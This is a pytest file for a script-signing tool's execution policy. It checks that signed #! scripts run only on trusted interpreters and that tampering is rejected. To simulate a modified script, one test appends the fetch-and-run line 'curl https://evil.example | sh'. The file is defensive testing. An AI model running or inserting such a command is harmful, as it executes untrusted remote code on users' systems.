"""Signed ``#!`` scripts and their interpreters (issue 34, item 5): docs/exec.md's recipe with the shipped
policies/signed-scripts.json, run as the doc writes it (the project's test Sigstore signs the script and
the real /bin/sh; ``--trusted-root`` names its root). And the attacks on it: an unsigned interpreter, a
script changed after signing, an interpreter signed by someone the policy does not trust, a waiver for
other bytes, and a ``tools.allow`` digest pin, which filters and never admits."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from verify_helpers import run_cli
from world import World

pytestmark = pytest.mark.skipif(sys.platform == "win32" or not os.path.exists("/bin/sh"), reason="POSIX /bin/sh")
ROOT = Path(__file__).resolve().parents[2]
POLICY = ROOT / "policies" / "signed-scripts.json"
SCRIPT = b"#!/bin/sh\necho \"deployed $1\"\n"
SH = Path(os.path.realpath("/bin/sh"))


def doc_command() -> list[str]:
    """The exec line of docs/exec.md's recipe, as a user copies it."""
    text = (ROOT / "docs" / "exec.md").read_text(encoding="utf-8")
    found = re.search(r"```sh\n(atip-trust exec --policy policies/signed-scripts\.json[^\n]*)\n```", text)
    assert found, "docs/exec.md lost the signed-script recipe"
    return shlex.split(found.group(1))[1:]


@pytest.fixture
def w(tmp_path: Path) -> World:
    w = World(tmp_path, seed=3408)
    w.tool("deploy.sh", SCRIPT)
    w.keep_bundle("bundles", SCRIPT)
    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "signed-scripts.json").write_bytes(POLICY.read_bytes())
    return w


def run(w: World, argv: list[str], **more_env: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in w.env().items() if not k.startswith("ATIP_TRUST_")}
    return run_cli([*argv[:1], "--trusted-root", str(w.root), "--no-audit", *argv[1:]], timeout=120, cwd=w.dir,
                   env={**env, "CI": "true", **more_env})


def with_policy(w: World, **changes: Any) -> None:
    doc = json.loads(POLICY.read_text())
    doc.update(changes)
    (w.dir / "policies" / "signed-scripts.json").write_text(json.dumps(doc))


def test_the_docs_recipe_runs_a_signed_script_on_its_signed_interpreter(w: World) -> None:
    w.keep_bundle("bundles", SH.read_bytes())
    r = run(w, doc_command())
    assert r.returncode == 0, r.stderr
    assert r.stdout == "deployed production\n"


def test_an_unsigned_interpreter_stops_the_script_and_is_named(w: World) -> None:
    r = run(w, doc_command())
    assert r.returncode == 1 and r.stdout == ""
    assert "SCRIPT_INTERPRETER_NOT_ADMITTED" in r.stderr and "the interpreter /bin/sh" in r.stderr


def test_a_script_changed_after_signing_does_not_run(w: World) -> None:
    w.keep_bundle("bundles", SH.read_bytes())
    (w.dir / "deploy.sh").write_bytes(SCRIPT + b"curl https://evil.example | sh\n")
    r = run(w, doc_command())
    assert r.returncode == 1 and r.stdout == ""


def test_an_interpreter_signed_by_someone_else_is_not_admitted(w: World) -> None:
    w.keep_bundle("bundles", SH.read_bytes(),
                  identity="https://github.com/evil/tools/.github/workflows/release.yml@refs/tags/v1.0.0")
    r = run(w, doc_command())
    assert r.returncode == 1 and "SCRIPT_INTERPRETER_NOT_ADMITTED" in r.stderr


@pytest.mark.parametrize("pinned", ["os-shell", "other-bytes"])
def test_a_waiver_for_the_interpreters_exact_digest_is_the_unsigned_alternative(w: World, pinned: str) -> None:
    digest = hashlib.sha256(SH.read_bytes() if pinned == "os-shell" else b"another shell").hexdigest()
    doc = json.loads(POLICY.read_text())
    allow = [r for r in doc["permissions"]["allow"] if r["rule"] != "sh"] + ["sh"]
    with_policy(w, permissions={"allow": allow},
                waivers=[{"digest": f"sha256:{digest}", "reason": "OS shell of the build image",
                          "expires": "2099-01-31"}])
    r = run(w, doc_command())
    if pinned == "os-shell":
        assert r.returncode == 0 and r.stdout == "deployed production\n", r.stderr
    else:
        assert r.returncode == 1 and "SCRIPT_INTERPRETER_NOT_ADMITTED" in r.stderr


def test_a_tools_allow_digest_pin_filters_and_does_not_admit_the_interpreter(w: World) -> None:
    digest = hashlib.sha256(SH.read_bytes()).hexdigest()
    with_policy(w, tools={"allow": [{"name": "deploy.sh"}, {"name": "sh", "digest": f"sha256:{digest}"}]})
    r = run(w, doc_command())
    assert r.returncode == 1 and "SCRIPT_INTERPRETER_NOT_ADMITTED" in r.stderr


@pytest.mark.parametrize("waiver_in", ["local", "org"])
def test_under_an_org_policy_only_the_orgs_waiver_counts(w: World, waiver_in: str) -> None:
    """A local waiver cannot lift what an org layer requires (compose.py): the run is refused, naming the
    interpreter; the same waiver in the org policy lets it run."""
    waiver = [{"digest": f"sha256:{hashlib.sha256(SH.read_bytes()).hexdigest()}", "reason": "OS shell",
               "expires": "2099-01-31"}]
    doc = json.loads(POLICY.read_text())
    with_policy(w, permissions={"allow": [r for r in doc["permissions"]["allow"] if r["rule"] != "sh"] + ["sh"]},
                **({"waivers": waiver} if waiver_in == "local" else {}))
    org = w.file("org-policy.json", {"version": 1, "name": "org", **({"waivers": waiver} if waiver_in == "org" else {}),
                                     "capabilities": {"subprocess": {"minTrustLevel": "VERIFIED", "below": "deny"}}})
    r = run(w, doc_command(), ATIP_TRUST_ORG_POLICY=str(org))
    if waiver_in == "org":
        assert r.returncode == 0 and r.stdout == "deployed production\n", r.stderr
    else:
        assert r.returncode == 1 and "SCRIPT_INTERPRETER_NOT_ADMITTED" in r.stderr and r.stdout == ""
